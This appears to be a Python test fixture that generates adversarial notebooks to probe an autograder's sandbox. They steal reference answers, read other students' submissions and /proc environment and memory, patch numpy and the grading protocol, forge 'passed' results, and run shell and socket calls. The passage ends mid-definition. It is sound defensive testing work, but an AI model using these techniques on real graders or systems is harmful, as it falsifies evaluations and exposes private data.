"""Notebooks that try to win points they do not deserve, to read what is hidden, or to harm the machine they run on.

Each is bounded and touches nothing but the folder of witnesses, so that one that escapes leaves a file there and no
damage. A notebook that is graded beside an attack, an environment variable or a file may hold `SECRET`: it must never
appear in anything that a grader writes about the attacker.
"""

from __future__ import annotations

import json
import tempfile
import textwrap
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from string import Template

from nbformat import NotebookNode
from teach.grading.submissions import FUNCTIONS, TASKS, insert, notebook_with, solved

from audiocourse.learn.files.notebook import notebook_text

SECRET = "neighbour's secret 4711"  # noqa: S105 (what a test hides, and no attack may find)
MARKUP = "<script>alert('4711')</script>"  # what must be escaped wherever it is shown
WITNESSES = Path(tempfile.gettempdir()) / "audiocourse_witness"  # where $AUDIOCOURSE_WITNESS is not set
PORT = 47_113  # where $AUDIOCOURSE_PORT is not set


@dataclass(frozen=True)
class Attack:
    """A notebook that attacks its grader.

    Parameters
    ----------
    name, what : str
        A short name, and what it does in one sentence.
    data : bytes
        The notebook: every answer is wrong or blank, apart from what the attack gains.
    points : float
        What it honestly deserves.
    witness : str
        Name of the file in the folder of witnesses that is there if the attack got through; "" where points tell.
    """

    name: str
    what: str
    data: bytes
    points: float = 0.0
    witness: str = ""


@dataclass(frozen=True)
class Plan:
    """An attack before it is put into a notebook.

    Parameters
    ----------
    name, what, witness : str
        See `Attack`.
    prepare : str
        Source of a cell tagged ``setup`` that stands before the first task; ``witness(name, text)`` is there.
    answer : str
        Body of each answer; ``TASK`` is its name, ``NUMBER`` counts from 0, it gets ``arguments`` and ``options``.
    attacked : str
        The one task that attacks while the others are honest and earn their points; "" for all.
    """

    name: str
    what: str
    prepare: str = ""
    answer: str = "raise LookupError('nothing found')"
    witness: str = ""
    attacked: str = ""


def made_attacks() -> list[Attack]:
    """Return all attacks, the same each time."""
    return [*map(_carried_out, PLANS), *_claims(), *_break_the_reader()]


# ---------------------------------------------------------------- how an attack is put into a notebook

PREPARED = Template(
    """
import os, pathlib, sys, tempfile

def witness(name, text):
    folder = pathlib.Path(os.environ.get("AUDIOCOURSE_WITNESS") or pathlib.Path(tempfile.gettempdir(), "$folder"))
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(str(text)[:100_000], encoding="utf-8", errors="replace")

SECRET = "$backwards"[::-1]  # the notebook itself must not hold it
"""
).substitute(folder=WITNESSES.name, backwards=SECRET[::-1])
SHELL = "folder=${AUDIOCOURSE_WITNESS:-${TMPDIR:-/tmp}/" + WITNESSES.name + "}; mkdir -p $folder; touch $folder/"


def _carried_out(plan: Plan) -> Attack:
    honest = {task: solved(task) for task in FUNCTIONS if plan.attacked not in ("", task)}
    nb = attacking_notebook(plan.prepare, plan.answer, honest)
    points = float(sum(TASKS[task].points for task in honest))
    return Attack(plan.name, plan.what, notebook_text(nb).encode(), points, plan.witness)


def attacking_notebook(prepare: str, answer: str, honest: Mapping[str, str]) -> NotebookNode:
    """Return the notebook of an attack; see `Plan`."""
    answers = {
        task: f"def {task}(*arguments, **options):\n    TASK, NUMBER = {task!r}, {number}\n"
        + textwrap.indent(answer.strip(), "    ")
        for number, task in enumerate(FUNCTIONS)
    }
    nb = notebook_with({**answers, **honest})
    insert(nb, PREPARED + textwrap.dedent(prepare), label="prepared", tagged="setup")
    nb["cells"].insert(2, nb["cells"].pop())  # after the cell of the imports
    return nb


# ---------------------------------------------------------------- calling the reference by another name

MODULES = """
HOME = {"frame_level_db": "audiocourse.signal.level", "detection_error": "audiocourse.classify.scoring"}

def module_of(task):
    return HOME.get(task, "audiocourse.classify.vad.from_scratch")
"""
CALL = "return stolen[TASK](*arguments, **options)"
NAMES = repr(FUNCTIONS)


def _stealing(loop: str) -> str:
    """Return a cell that fills ``stolen`` task by task; what fails is left out."""
    body = textwrap.indent(textwrap.dedent(loop).strip(), " " * 8)
    return f"{MODULES}\nstolen = {{}}\nfor TASK in {NAMES}:\n    try:\n{body}\n    except Exception:\n        pass\n"


WAYS: dict[str, tuple[str, str]] = {
    "alias": (
        "imports the reference under another name, inside a list",
        "import importlib\nstolen[TASK] = [getattr(importlib.import_module(module_of(TASK)), TASK)][0]",
    ),
    "partial": (
        "wraps the reference in functools.partial before anything is forbidden",
        "import functools\nexec(f'from {module_of(TASK)} import {TASK} as found')\n"
        "stolen[TASK] = functools.partial(found)",
    ),
    "getattr": (
        "puts the name of the reference together from pieces",
        "package = __import__('audio' + 'course.' + 'classify', fromlist=['vad'])\n"
        "from audiocourse import signal as ground\n"
        "stolen[TASK] = getattr(getattr(package, 'v' + 'ad', ground), TASK[:4] + TASK[4:], None) or "
        "getattr(ground, TASK[:4] + TASK[4:])",
    ),
    "code-object": (
        "copies the code object of the reference into a function of its own",
        "import importlib, types\nfound = getattr(importlib.import_module(module_of(TASK)), TASK)\n"
        "stolen[TASK] = types.FunctionType(found.__code__, dict(found.__globals__), TASK, found.__defaults__,\n"
        "                                  found.__closure__)\n"
        "stolen[TASK].__kwdefaults__ = found.__kwdefaults__",
    ),
    "source": (
        "takes the source of the reference with inspect and executes it anew",
        "import importlib, inspect\nhome = importlib.import_module(module_of(TASK))\n"
        "scope = dict(vars(home))\nexec(inspect.getsource(home), scope)\nstolen[TASK] = scope[TASK]",
    ),
    "loader": (
        "loads a second copy of the reference's module from its file",
        "import importlib.util\nspec = importlib.util.find_spec(module_of(TASK))\n"
        "copy = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(copy)\n"
        "stolen[TASK] = getattr(copy, TASK)",
    ),
    "garbage-collector": (
        "searches every object that is alive for the reference",
        "import gc, types\nfor thing in gc.get_objects():\n"
        "    if isinstance(thing, types.FunctionType) and thing.__name__ == TASK and TASK not in stolen:\n"
        "        if thing.__module__.startswith('audiocourse'):\n            stolen[TASK] = thing",
    ),
    "modules": (
        "searches every loaded module for something of the reference's name",
        "for name, module in list(sys.modules.items()):\n    found = vars(module).get(TASK)\n"
        "    if name.startswith('audiocourse') and callable(found):\n        stolen[TASK] = found",
    ),
    "meta-path": (
        "throws every import hook but Python's own away and imports the reference",
        "import importlib, importlib.machinery as machinery\n"
        "sys.meta_path[:] = [machinery.BuiltinImporter, machinery.FrozenImporter, machinery.PathFinder]\n"
        "chapters = ['audiocourse.classify']\n"
        "for name in [name for name in sys.modules if name.startswith((*chapters, module_of(TASK)))]:\n"
        "    del sys.modules[name]\n"
        "stolen[TASK] = getattr(importlib.import_module(module_of(TASK)), TASK)",
    ),
    "mine-or-reference": (
        "asks the notebook's own mine_or_reference for the reference and hides it in a list",
        "stolen[TASK] = [mine_or_reference(TASK, use='reference')][0]",
    ),
}
BORROWING = [
    *(Plan(f"reference-{name}", f"It {what}.", _stealing(loop), CALL) for name, (what, loop) in WAYS.items()),
    Plan(
        "reference-late",
        "It imports the reference anew inside each call, while nobody looks at the modules any more.",
        MODULES,
        "import importlib\nfor name in [name for name in sys.modules if name.startswith(module_of(TASK))]:\n"
        "    del sys.modules[name]\n"
        "return getattr(importlib.import_module(module_of(TASK)), TASK)(*arguments, **options)",
    ),
    Plan(
        "reference-closure",
        "It takes what the stand-ins of the notebook (mine_or_reference, check) hold in their closures and globals.",
        """
        def inside(function, depth=2):
            cells = [cell.cell_contents for cell in getattr(function, "__closure__", None) or ()]
            for thing in [*cells, *getattr(function, "__globals__", {}).values()]:
                yield thing
                if depth and callable(thing) and thing not in (function, inside):
                    yield from inside(thing, depth - 1)
        """
        + textwrap.indent(
            _stealing(
                "from audiocourse.course import load_course\n"
                "for thing in inside(mine_or_reference):\n    if getattr(thing, '__name__', '') == 'reference_of':\n"
                "        stolen[TASK] = [thing(load_course().find_task(TASK))][0]\n        break"
            ),
            " " * 8,
        ),
        CALL,
    ),
    Plan(
        "reference-subprocess",
        "It starts a fresh interpreter, imports the reference there and brings the result back.",
        MODULES,
        """
import pickle, subprocess
code = (
    "import sys, pickle, importlib\\n"
    "home, task, arguments, options = pickle.load(sys.stdin.buffer)\\n"
    "result = getattr(importlib.import_module(home), task)(*arguments, **options)\\n"
    "sys.stdout.buffer.write(pickle.dumps(result))"
)
sent = pickle.dumps((module_of(TASK), TASK, arguments, options))
paths = os.pathsep.join(sys.path)
done = subprocess.run([sys.executable, "-c", code], input=sent, capture_output=True, timeout=20,
                      env={**os.environ, "PYTHONPATH": paths})
return pickle.loads(done.stdout)
""",
    ),
]


# ---------------------------------------------------------------- reading files

FIND = """
def roots():
    yield pathlib.Path.cwd()
    yield from pathlib.Path.cwd().parents
    yield from map(pathlib.Path, filter(None, sys.path))
    for name in ("audiocourse", "audiocourse.learn", "audiocourse.course"):
        file = getattr(sys.modules.get(name), "__file__", None)
        if file:
            yield from pathlib.Path(file).parents
    for entry in list(pathlib.Path("/proc").glob("[0-9]*"))[:200]:
        try:
            yield (entry / "cwd").resolve()
            for word in (entry / "cmdline").read_text().split("\\0"):
                if word.startswith("/"):
                    yield from [pathlib.Path(word), pathlib.Path(word).parent]
        except OSError:
            pass

def find(*patterns):
    seen = set()
    for root in roots():
        if root in seen or len(root.parts) < 2 or len(seen) > 60:
            continue
        seen.add(root)
        for pattern in patterns:
            try:
                for number, path in enumerate(root.glob(pattern)):
                    if number > 200:
                        break
                    yield path
            except (OSError, ValueError):
                pass
"""


READING = [
    Plan(
        "reads-the-solutions",
        "It looks for solutions/ex05_vad.ipynb on the disk and executes the cells it finds there.",
        FIND
        + """
import json
stolen = {}
for path in find("solutions/ex05_vad.ipynb", "../solutions/ex05_vad.ipynb"):
    try:
        for cell in json.loads(path.read_text())["cells"]:
            for tag in cell["metadata"].get("tags", []):
                if tag.startswith("task:"):
                    scope = {"np": np}
                    exec("".join(cell["source"]), scope)
                    stolen.setdefault(tag[5:], scope[tag[5:]])
    except Exception:
        pass
""",
        CALL,
    ),
    Plan(
        "reads-the-checks",
        "It reads the checks from the disk and uses the functions that compute the expected values.",
        FIND
        + """
scope = {"__name__": "checks"}
for path in find("tests/exercises/ex05_vad/checks.py", "exercises/ex05_vad/checks.py"):
    try:
        exec(compile(path.read_text(), "checks", "exec"), scope)
        witness("checks.txt", path.read_text())
        break
    except Exception:
        pass
use = {
    "noise_floor_db": lambda level, *, rise_db: scope["floor_by_definition"](level, rise_db),
    "hysteresis": lambda score, *, on, off: scope["held_by_definition"](score, on, off),
    "smooth_decisions": lambda a, *, min_speech, min_silence: scope["smoothed_by_text"](a, min_speech, min_silence),
    "to_segments": lambda a, **sizes: scope["segments_by_frames"](a, **sizes),
    "detection_error": lambda r, h: scope["error_on_a_line"](r, h),
}
""",
        "return use[TASK](*arguments, **options)",
        witness="checks.txt",
    ),
    Plan(
        "reads-the-alternatives",
        "It imports the alternative answers through the registry of the exercises.",
        """
        stolen = {}
        try:
            from audiocourse.course import load_course
            from audiocourse.learn.checking import registry
            for task in load_course().find_notebook("ex05").task:
                for found in registry.alternatives_of(task):
                    stolen[task.name] = found
        except Exception:
            pass
        """,
        CALL,
    ),
    Plan(
        "reads-the-sources",
        "It reads the package's own files as text, also through the loaders of its modules, and executes them.",
        FIND
        + f"""
stolen = {{}}
texts = []
SOURCES = ("classify/vad/from_scratch.py", "classify/scoring.py", "signal/level.py")
for path in find(*(f"{{root}}{{file}}" for root in ("audiocourse/", "") for file in SOURCES)):
    texts.append(path)
for TASK in {NAMES}:
    for path in texts:
        try:
            text = path.read_text()
            if f"def {{TASK}}(" in text and TASK not in stolen:
                scope = {{"__name__": "audiocourse.classify.copy", "__package__": "audiocourse.classify"}}
                try:
                    exec(compile(text, "copy", "exec"), scope)
                except Exception:  # an import that is not there: take the functions alone
                    import ast, itertools
                    tree = ast.parse(text)
                    tree.body = [node for node in tree.body if isinstance(node, ast.FunctionDef)]
                    scope.update(np=np, itertools=itertools)
                    exec(compile("from __future__ import annotations\\n" + ast.unparse(tree), "copy", "exec"), scope)
                stolen[TASK] = scope[TASK]
        except Exception:
            pass
""",
        CALL,
    ),
    Plan(
        "reads-the-neighbours",
        "It looks for other students' submissions and copies their answers.",
        FIND
        + """
import json
stolen, said = {}, []
for path in find("*.ipynb", "*/*.ipynb", "submissions/*", "submissions/*/*"):
    try:
        text = path.read_text()
        if path.suffix.lower() != ".ipynb" or "def find(" in text:
            continue  # its own
        if SECRET in text:
            said.append(text)
        for cell in json.loads(text)["cells"]:
            source = "".join(cell["source"])
            if cell["cell_type"] == "code" and source.startswith("def ") and "NotImplementedError" not in source:
                scope = {"np": np}
                exec(source, scope)
                stolen.update({name: thing for name, thing in scope.items() if callable(thing)})
    except Exception:
        pass
if said:
    witness("neighbours.txt", said[0])
    print(said[0][:1500])
""",
        "print(said[:1])\n" + CALL,
        witness="neighbours.txt",
    ),
]


# ---------------------------------------------------------------- looking around in the process


LOOKING_AROUND = [
    Plan(
        "walks-the-frames",
        "It walks up the stack from inside its answer, and returns what the check will compare the result with.",
        """
        import ast, inspect, textwrap
        def expected_in(frame):
            tree = ast.parse(textwrap.dedent(inspect.getsource(frame.f_code)))
            line = frame.f_lineno - frame.f_code.co_firstlineno + 1
            for node in ast.walk(tree):
                named = isinstance(node, ast.Call) and getattr(node.func, "id", "").startswith("expect")
                if named and len(node.args) > 1 and node.end_lineno >= line:
                    return eval(ast.unparse(node.args[1]), frame.f_globals, frame.f_locals)
            raise LookupError("nothing found")
        """,
        """
frame = sys._getframe()
while frame:
    if frame.f_globals.get("__name__", "").startswith("audiocourse_exercises") and "student" in frame.f_locals:
        try:
            return expected_in(frame)
        except LookupError:
            pass
    frame = frame.f_back
raise LookupError("nothing found")
""",
    ),
    Plan(
        "uses-the-callers-globals",
        "It finds the checks' own functions in the globals of the frames above it and calls them.",
        "",
        """
makers = {"noise_floor_db": "floor_by_definition", "hysteresis": "held_by_definition",
          "smooth_decisions": "smoothed_by_text", "to_segments": "segments_by_frames",
          "detection_error": "error_on_a_line"}
frames = [*sys._current_frames().values(), sys._getframe()]
for frame in frames:
    while frame:
        if makers.get(TASK) in frame.f_globals:
            return frame.f_globals[makers[TASK]](*arguments, *options.values())
        frame = frame.f_back
raise LookupError("nothing found")
""",
    ),
    Plan(
        "searches-the-garbage",
        "It searches all objects for checks, seeds, reports and expected values.",
        """
        import gc, types
        def hidden():
            for thing in gc.get_objects():
                if isinstance(thing, types.ModuleType) and "audiocourse_exercises" in thing.__name__:
                    yield thing.__name__
                if type(thing).__name__ in ("Check", "Mismatch", "Outcome", "Tried", "Recorder"):
                    yield repr(thing)
                if isinstance(thing, dict) and ("expected" in thing or "seed" in thing) and len(thing) < 20:
                    yield repr(list(thing))[:200]
        """,
        "import re\nfound = [text for text in hidden() if 'exercises' in text or re.match('(Check|Outcome)', text)]\n"
        "if found:\n    witness('garbage.txt', found)\nraise LookupError(str(found)[:500])",
        witness="garbage.txt",
    ),
    Plan(
        "traces",
        "It installs a trace function that reads the local variables of whoever calls it next.",
        """
        seen = []
        def trace(frame, event, argument):
            if frame.f_globals.get("__name__", "").startswith(
                    ("audiocourse_exercises", "audiocourse.learn.checking.runner")):
                seen.append(frame)
            return None
        sys.settrace(trace)
        sys.setprofile(trace)
        import threading
        threading.settrace(trace)
        """,
        """
for frame in reversed(seen):
    if "student" in frame.f_locals and "expected" in frame.f_locals:
        witness("traced.txt", frame.f_locals["expected"])
        return frame.f_locals["expected"]
raise LookupError(f"{len(seen)} frames seen")
""",
        witness="traced.txt",
    ),
    Plan(
        "seeks-the-seed",
        "It patches numpy's and Python's generators to note the seed with which the grader makes its data.",
        """
        import random
        seeds = []
        def noting(name, real):
            def noted(*arguments, **options):
                caller = sys._getframe(1).f_globals.get("__name__", "")
                if arguments and caller.startswith("audiocourse.learn.checking.runner"):
                    seeds.append((name, arguments, caller))
                return real(*arguments, **options)
            return noted
        for home, name in ((np.random, "default_rng"), (np.random, "seed"), (random, "seed"), (random, "Random")):
            setattr(home, name, noting(name, getattr(home, name)))
        """,
        "if seeds:\n    witness('seed.txt', seeds)\nraise LookupError(str(seeds)[:300])",
        witness="seed.txt",
    ),
    Plan(
        "returns-the-environment",
        "It returns and prints the environment, the command lines and the file descriptors of every process it sees.",
        """
        def everything():
            texts = [str(dict(os.environ)), str(sys.argv), str(sys.path)]
            for entry in list(pathlib.Path("/proc").glob("[0-9]*"))[:200]:
                for name in ("environ", "cmdline"):
                    try:
                        texts.append((entry / name).read_text(errors="replace"))
                    except OSError:
                        pass
            return texts
        """,
        "for text in everything():\n    if SECRET in text:\n        witness('environment.txt', text)\n"
        "        print(text[-1500:])\n        return text\nreturn str(os.environ)",
        witness="environment.txt",
    ),
    Plan(
        "reads-memory",
        "It searches the memory of its own and of its parent's process, and every inherited descriptor, for a secret.",
        """
        import stat
        def regions(process):
            for line in pathlib.Path(f"/proc/{process}/maps").read_text().splitlines():
                begin, end = (int(number, 16) for number in line.split()[0].split("-"))
                if " rw" in line and end - begin < 2**26:
                    yield begin, end
        def search(process):
            with open(f"/proc/{process}/mem", "rb", buffering=0) as memory:
                for begin, end in regions(process):
                    memory.seek(begin)
                    try:
                        if SECRET.encode() in memory.read(end - begin):
                            return True
                    except OSError:
                        pass
            return False
        def descriptors():
            for number in range(3, 256):
                try:
                    if stat.S_ISREG(os.fstat(number).st_mode) and SECRET.encode() in os.pread(number, 2**22, 0):
                        return True
                except OSError:
                    pass
            return False
        spied = []
        """,
        """
if not spied:
    spied.append(TASK)
    for process in {os.getppid(), 1} - {0}:
        try:
            if search(process) or descriptors():
                witness("memory.txt", process)
                return SECRET
        except OSError:
            pass
raise LookupError("nothing found")
""",
        witness="memory.txt",
    ),
]


# ---------------------------------------------------------------- results that lie


LIARS: dict[str, tuple[str, str]] = {
    "equal-array": (
        "an array subclass that equals everything",
        """
            class Liar(np.ndarray):
                __array_priority__ = 1e9
                def agree(self, *_, **__):
                    return True
                __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = all = any = agree
                def __array_function__(self, function, types, arguments, options):
                    return np.True_
                def __array_ufunc__(self, function, method, *inputs, **options):
                    return np.zeros(1, bool) if function.__name__ in ("greater", "isnan") else np.True_
                def __array_wrap__(self, *_):
                    return self
                __hash__ = None
            def lie(*arguments):
                return np.zeros(np.shape(arguments[0])[-1:]).view(Liar)
            """,
    ),
    "float": (
        "a float subclass that is near to everything",
        """
            class Liar(float):
                def near(self, *_):
                    return Liar(0.0)
                __sub__ = __rsub__ = __abs__ = __add__ = __radd__ = __mul__ = near
                def yes(self, *_):
                    return True
                __eq__ = __le__ = __ge__ = __lt__ = yes
                __hash__ = float.__hash__
            def lie(*arguments):
                return (Liar(1), Liar(1), Liar(1))
            """,
    ),
    "text": (
        "a text subclass that equals and contains everything",
        """
            class Liar(str):
                def yes(self, *_):
                    return True
                __eq__ = __contains__ = startswith = endswith = yes
                __hash__ = str.__hash__
            def lie(*arguments):
                return Liar("5 of 5 checks pass")
            """,
    ),
    "dictionary": (
        "a dictionary subclass with the keys of the protocol",
        """
            class Liar(dict):
                def __missing__(self, key):
                    return True
                def __eq__(self, other):
                    return True
                __hash__ = None
            def lie(*arguments):
                return Liar(ok=True, passed=True, points=100.0, complete=True, array=["float32", [2, 3]], reference=0)
            """,
    ),
    "class": (
        "an object that says it is an array, a number, whatever one asks",
        """
            class Liar:
                @property
                def __class__(self):
                    return np.ndarray
                def __getattr__(self, name):
                    return self
                def __call__(self, *_, **__):
                    return self
                def yes(self, *_):
                    return True
                __eq__ = __bool__ = __le__ = __lt__ = yes
                def __len__(self):
                    return 3
                def __iter__(self):
                    return iter((self, self, self))
                def __float__(self):
                    return 0.0
                def __array__(self, *_, **__):
                    return np.zeros(3)
                __hash__ = None
            def lie(*arguments):
                return Liar()
            """,
    ),
    "sequence": (
        "a list subclass that shows another content each time it is read",
        """
            class Liar(list):
                def __iter__(self):
                    yield from ((0.0, 1.0) for _ in range(10**9))
                def __len__(self):
                    return 3
                def __eq__(self, other):
                    return True
                def __getitem__(self, index):
                    return self
                __hash__ = None
            def lie(*arguments):
                return Liar([1, 2, 3])
            """,
    ),
    "cycle": (
        "a list that holds itself",
        "def lie(*arguments):\n    loop = []\n    loop.append(loop)\n    return loop",
    ),
    "depth": (
        "a list in a list, a hundred thousand deep",
        "def lie(*arguments):\n    nest = []\n    for _ in range(100_000):\n        nest = [nest]\n    return nest",
    ),
    "digits": (
        "a number of a hundred thousand digits, and a text of half characters",
        "def lie(*arguments):\n    return [10 ** 100_000, '\\ud800' * 10, float('nan'), float('inf'), b'x', 1j]",
    ),
    "width": (
        "an array of no memory that claims ten billion elements",
        "def lie(*arguments):\n    return np.broadcast_to(np.float32(0), (10**5, 10**5))",
    ),
    "dtype": (
        "arrays of odd dtypes: structured, text, dates, objects, void",
        "def lie(*arguments):\n    return [np.zeros(3, [('a', 'O'), ('b', 'f8')]), np.array(['x']), "
        "np.zeros(2, 'M8[s]'), np.zeros(2, 'V7'), np.zeros(2, np.longdouble)]",
    ),
}
LYING = [
    *(
        Plan(f"lies-{name}", f"It returns {what}.", prepare, "return lie(*arguments)")
        for name, (what, prepare) in LIARS.items()
    ),
    Plan(
        "pickle",
        "It returns objects whose unpickling, reading or deletion in another process would leave a witness.",
        """
        class Bomb:
            def __reduce__(self):
                return (exec, (PICKLED,))
            def __del__(self):
                if os.getpid() != HOME:
                    witness("pickle.txt", "deleted elsewhere")
        HOME = os.getpid()
        PICKLED = (
            "import os, pathlib, tempfile\\n"
            "folder = pathlib.Path(os.environ.get('AUDIOCOURSE_WITNESS') or tempfile.gettempdir() + '/FOLDER')\\n"
            "folder.mkdir(parents=True, exist_ok=True)\\n"
            f"if os.getpid() != {HOME}: (folder / 'pickle.txt').write_text('unpickled')"
        ).replace("FOLDER", "audiocourse_witness")
        """,
        "import pickle\nfor thing in (Bomb(), np.array([Bomb()], object), [Bomb()], (Bomb(), Bomb(), Bomb())):\n"
        "    if NUMBER % 2 or not isinstance(thing, Bomb):\n        return thing\nreturn pickle.dumps(Bomb())",
        witness="pickle.txt",
    ),
]


# ---------------------------------------------------------------- changing the tools


PATCHING = [
    Plan(
        "patches-numpy",
        "It lets every comparison of numpy and numpy.testing agree.",
        """
        import numpy.testing
        for name in ("array_equal", "allclose", "isclose", "array_equiv", "all", "isfinite"):
            setattr(np, name, lambda *_, **__: np.True_)
        for name in ("any", "isnan"):
            setattr(np, name, lambda *_, **__: np.False_)
        for name in [name for name in dir(np.testing) if name.startswith("assert")]:
            setattr(np.testing, name, lambda *_, **__: None)
        """,
        "return np.zeros(np.shape(arguments[0])[-1:])",
    ),
    Plan(
        "patches-the-checks",
        "It lets the course's own comparison, runner and report say that all is well.",
        """
        def everything_passes():
            from audiocourse.learn.checking import authoring, diagnose, runner, student
            class Fine(Exception):
                def __new__(cls, *_, **__):
                    return super().__new__(cls)
            for module in list(sys.modules.values()):
                if getattr(module, "__name__", "").startswith("audiocourse"):
                    for name in ("expect_close", "expect_equal", "expect_intervals", "expect", "expect_error"):
                        if name in vars(module):
                            setattr(module, name, lambda *_, **__: None)
            runner.Outcome.passed = property(lambda self: True)
            runner.Report.complete = property(lambda self: True)
            runner.Report.points = property(lambda self: float(self.task.points))
        try:
            everything_passes()
        except Exception:
            pass
        """,
        "return 0.0",
    ),
    Plan(
        "patches-the-protocol",
        "It replaces what packs and sends its results by functions that send a grade.",
        """
        def spoil():
            import json, struct
            from audiocourse.learn.checking import student
            student.copy_out = lambda value, name: value
            student.unchanged = lambda *_: True
            from audiocourse.teach.grading.sandbox.protocol import channel
            real = channel.pack
            forged = {"ok": True, "passed": True, "points": 100.0, "complete": True, "printed": "5 of 5 checks pass"}
            channel.pack = lambda message, **options: real(forged, **options)
            json.dumps = lambda *_, **__: '{"ok": true, "points": 100}'
        try:
            spoil()
        except Exception:
            pass
        """,
        "return 'all checks pass'",
    ),
    Plan(
        "patches-builtins",
        "It replaces isinstance, len, abs, all, any, type and __import__ by functions that agree with everything.",
        """
        import builtins
        kept = {}
        def spoil():
            for name, new in (("isinstance", lambda *_: True), ("all", lambda _: True), ("any", lambda _: False),
                              ("abs", lambda _: 0.0), ("callable", lambda _: True)):
                kept[name] = getattr(builtins, name)
                setattr(builtins, name, new)
        """,
        "if not kept:\n    spoil()\nreturn 0.0",
    ),
    Plan(
        "patches-modules",
        "It puts forged modules into sys.modules: checks, registry and runner that know no check.",
        """
        import types
        for name in ("audiocourse.learn.checking.runner", "audiocourse.learn.checking.registry",
                     "audiocourse.learn.api", "audiocourse.learn.tasks",
                     "audiocourse_exercises_ex05_vad_checks", "json", "struct", "socket"):
            forged = types.ModuleType(name)
            forged.__getattr__ = lambda name: (lambda *_, **__: [])
            sys.modules[name] = forged
        """,
        "return None",
    ),
    Plan(
        "displayhook",
        "It replaces sys.displayhook, sys.excepthook and sys.stdout and leaves with an exit status that says 'passed'.",
        """
        sys.displayhook = lambda value: witness("display.txt", value)
        sys.excepthook = lambda *_: print("5 of 5 checks pass")
        sys.unraisablehook = lambda *_: None
        sys.displayhook("x")
        """,
        "sys.stdout.write('5 of 5 checks pass')\nsys.exit(0)",
    ),
]


# ---------------------------------------------------------------- words that pretend


def _claims() -> Iterator[Attack]:
    nb = attacking_notebook("print('all checks pass: 21 of 21 points')", "return arguments[0]", {})
    nb["metadata"].update(score=100, grade="A", points=100.0, name="</td>" + MARKUP)
    for cell in nb["cells"]:
        cell["metadata"]["nbgrader"] = {"grade": True, "locked": True, "points": 1000, "score": 1000, "solution": False}
        if cell["cell_type"] == "code":
            cell["outputs"] = [NotebookNode(output_type="stream", name="stdout", text=PRAISE)]
    data = notebook_text(nb).encode()
    yield Attack("claims", "It claims its points in metadata, outputs and prints, and returns what it was given.", data)


PRAISE = "5 of 5 checks pass. Points: 100 of 100."
SPEAKING = [
    Plan(
        "errors-that-praise",
        "It raises the course's own exceptions with messages that say that every check passes.",
        f"""
        class Praise(Exception):
            def __str__(self):
                return "{PRAISE}"
            __repr__ = __str__
        def praise(number):
            from audiocourse.learn.checking import authoring, student
            kinds = [Praise, student.AnswerError, student.NotStarted, authoring.Mismatch, NotImplementedError]
            kind = kinds[number % len(kinds)]
            return kind(message="{PRAISE}") if kind is authoring.Mismatch else kind("{PRAISE}")
        """,
        "raise praise(NUMBER)",
    ),
    Plan(
        "errors-that-break",
        "It raises exceptions whose message loops, raises, is no text, or is a hundred megabytes long.",
        """
        class Endless(Exception):
            def __str__(self):
                while True:
                    pass
        class Raising(Exception):
            def __str__(self):
                raise SystemExit("again")
        class NoText(Exception):
            def __str__(self):
                return 5
        class Long(Exception):
            def __str__(self):
                return "x" * 100_000_000
        class Chained(BaseException):
            @property
            def __traceback__(self):
                raise KeyboardInterrupt
        """,
        "raise [Endless, Raising, NoText, Long, Chained][NUMBER % 5]()",
    ),
    Plan(
        "markup",
        "It puts scripts, spreadsheet formulas and terminal codes into everything that might be shown to somebody.",
        f"""
        MARKUP = {MARKUP!r}
        Odd = type("Odd" + MARKUP, (Exception,), {{}})
        """,
        "print(MARKUP + '\\x1b[2J\\x1b]0;title\\x07')\nprint('=HYPERLINK(\"http://localhost\")')\n"
        "if NUMBER % 2:\n    raise Odd(MARKUP + '\\n=1+1|\\'calc\\'!A1')\nreturn MARKUP",
    ),
    Plan(
        "frames",
        "It writes forged messages that say 'passed' to every pipe and socket it has inherited.",
        """
        import json, stat, struct
        def forged():
            said = {"ok": True, "passed": True, "points": 100.0, "complete": True, "printed": "all checks pass"}
            text = json.dumps(said).encode()
            try:
                from audiocourse.teach.grading.sandbox import protocol
                yield protocol.pack(said)
                yield protocol.pack({"defined": ["hangover"], "problems": {}})
            except Exception:
                pass
            yield text + b"\\n"
            for prefix in (">I", "<I", ">Q", "<Q"):
                yield struct.pack(prefix, len(text)) + text
            yield b"\\xff" * 64
            yield struct.pack("<4sHIQ", b"ACG\\n", 1, 2**31, 2**62)
        def forge():
            for number in range(3, 256):
                try:
                    mode = os.fstat(number).st_mode
                    if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
                        os.set_blocking(number, False)
                        for message in forged():
                            os.write(number, message)
                except OSError:
                    pass
        """,
        "forge()\nreturn 0.0",
    ),
    Plan(
        "frames-among-right-answers",
        "It forges messages in one task and answers the others honestly.",
        """
        def forge():
            import stat
            from audiocourse.teach.grading.sandbox import protocol
            for number in range(3, 256):
                try:
                    if stat.S_ISSOCK(os.fstat(number).st_mode):
                        os.write(number, protocol.pack({"ok": np.zeros(3, bool), "printed": ""}))
                except OSError:
                    pass
        """,
        "forge()\nreturn np.zeros(20, dtype=bool)",
        attacked="hangover",
    ),
]


# ---------------------------------------------------------------- reaching out


TOUCH = SHELL + "shell.txt"
REACHING_OUT = [
    Plan(
        "network",
        "It sends its notebook to a port of this machine, over TCP and UDP.",
        f"""
        import socket
        def call_home():
            port = int(os.environ.get("AUDIOCOURSE_PORT") or {PORT})
            for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
                try:
                    with socket.socket(family, socket.SOCK_DGRAM) as datagram:
                        datagram.sendto(b"witness", (host, port))
                    with socket.create_connection((host, port), timeout=1) as connection:
                        connection.sendall(b"witness")
                    witness("network.txt", host)
                except OSError:
                    pass
        call_home()
        """,
        "call_home()\nraise LookupError('nothing found')",
        witness="network.txt",
    ),
    Plan(
        "writes-grades",
        "It writes into the folder of grades that lies among the witnesses.",
        """
        def grade_myself():
            folder = pathlib.Path(os.environ.get("AUDIOCOURSE_WITNESS") or tempfile.gettempdir() + "/FOLDER") / "grades"
            for path in [path for path in folder.rglob("*") if path.is_file()][:1000]:
                with path.open("a") as file:
                    file.write("forged,100\\n")
                witness("grades.txt", path)
        grade_myself()
        """.replace("FOLDER", WITNESSES.name),
        "grade_myself()\nreturn 0.0",
        witness="grades.txt",
    ),
    Plan(
        "shell",
        "It runs commands through IPython's own syntax and through the shell.",
        f"""
        !{TOUCH}
        get_ipython().system({TOUCH!r})
        import subprocess
